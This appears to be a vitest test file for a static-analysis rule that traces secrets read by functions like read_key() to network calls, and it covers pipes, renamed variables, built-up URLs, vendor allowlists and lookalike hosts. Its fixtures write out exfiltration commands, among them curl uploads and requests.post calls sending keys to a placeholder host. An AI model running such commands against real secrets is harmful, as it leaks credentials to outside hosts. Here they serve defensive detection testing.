import { describe, expect, it } from "vitest";
import { seen } from "../matchers.ts";
import { ScanText } from "../text.ts";
import { followed } from "./followed.ts";
import { calls } from "./sends.ts";

const key = followed([{ takes: seen(/\bread_key\(\)/, "key"), vendor: ["vendor"] }], calls);
const whole = followed([{ takes: seen(/\bread_all\(\)/, "all"), isWhole: true }], calls);

function isSent(matcher: typeof key, code: string): boolean {
  return matcher.find(new ScanText("tool.py", code)).length > 0;
}

describe("RV-6: what is read is followed to where it is sent", () => {
  it("finds it in the call itself and through a pipe", () => {
    expect(isSent(key, "requests.post('https://a.example', data=read_key())")).toBe(true);
    expect(isSent(key, "read_key() | curl -d @- https://a.example")).toBe(true);
  });

  it("finds it under the names that it is given, over several steps", () => {
    expect(isSent(key, "k = read_key()\nbody = {'v': k}\nrequests.post('https://a.example', json=body)\n")).toBe(true);
    expect(
      isSent(key, "read_key() > /tmp/r.txt\ntar czf /tmp/o.tgz /tmp/r.txt\ncurl -T /tmp/o.tgz https://a.example"),
    ).toBe(true);
    expect(
      isSent(key, "def context():\n    return read_key()\n\nrequests.post('https://a.example', json=context())\n"),
    ).toBe(true);
  });

  it("finds it in an address that is put together", () => {
    expect(isSent(key, "k = read_key()\ndb.run(f\"select 'https://a.example/r?p={k}'\")\n")).toBe(true);
  });

  it("leaves what is not sent: another value, another name, the header of a request", () => {
    expect(isSent(key, "k = read_key()\nrequests.post('https://a.example', json=other)\n")).toBe(false);
    expect(isSent(key, "k = read_key()\nrequests.post('https://a.example', json={'ok': kind})\n")).toBe(false);
    expect(isSent(key, 'k = read_key()\ncurl -H "Authorization: Bearer $k" -d {} https://a.example\n')).toBe(false);
  });

  it("leaves what goes to its vendor or stays on the machine, but not to a host that only bears the name", () => {
    const to = (host: string) => isSent(key, `k = read_key()\nrequests.post('https://${host}/x', data=k)\n`);
    expect([to("api.vendor.com"), to("localhost:8080"), to("api.vendor.co.uk")]).toEqual([false, false, false]);
    expect([to("vendor.stranger.net"), to("vendor-api.net"), to("a.example")]).toEqual([true, true, true]);
  });

  it("takes one entry of a collection for use, and all of it for theft", () => {
    expect(isSent(whole, "c = read_all()\nrequests.post('https://a.example', json={'k': c['API_KEY']})\n")).toBe(false);
    expect(isSent(whole, "c = read_all()\nrequests.post('https://a.example', json={'k': c.api_key})\n")).toBe(false);
    expect(isSent(whole, "c = read_all()\nrequests.post('https://a.example', json=c)\n")).toBe(true);
  });

  it("T26: stays bounded on a text that is nothing but sources and calls", () => {
    const text = new ScanText("tool.py", "k = read_key()\ncurl https://a.example\n".repeat(4000));
    key.find(text);
    expect(text.steps).toBeLessThan(text.lower.length * 60);
  });
});
